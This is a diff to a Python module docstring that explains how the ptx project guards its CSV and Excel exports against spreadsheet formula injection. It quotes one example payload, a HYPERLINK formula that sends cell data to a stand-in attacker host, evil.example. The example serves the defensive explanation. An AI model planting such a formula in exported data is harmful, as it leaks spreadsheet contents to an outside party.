@@ -10,9 +10,10 @@ Two places turn text from the source into something live:
 - **Spreadsheets** open a CSV cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or
   carriage return before one) as a formula: ``=HYPERLINK("http://evil.example?"&A1)`` sends
   data away. :func:`neutralise_formulas` prefixes such text cells with ``'``, as OWASP's CSV
-  injection guidance and ASVS 1.2.10 ask, and :func:`csv_bytes` writes every ptx export with
-  it. Numbers stay numbers: numeric columns are untouched and a text cell that is just a number
-  (``-12.5``, ``-1,234``) is left as it is, so negative values remain negative values.
+  injection guidance and ASVS 1.2.10 ask, and :func:`csv_bytes` writes every ptx CSV export
+  with it (:func:`ptx.exports.excel_bytes` every Excel one). Numbers stay numbers: numeric
+  columns are untouched and a text cell that is just a number (``-12.5``, ``-1,234``) is left
+  as it is, so negative values remain negative values.
 """
 
 from __future__ import annotations
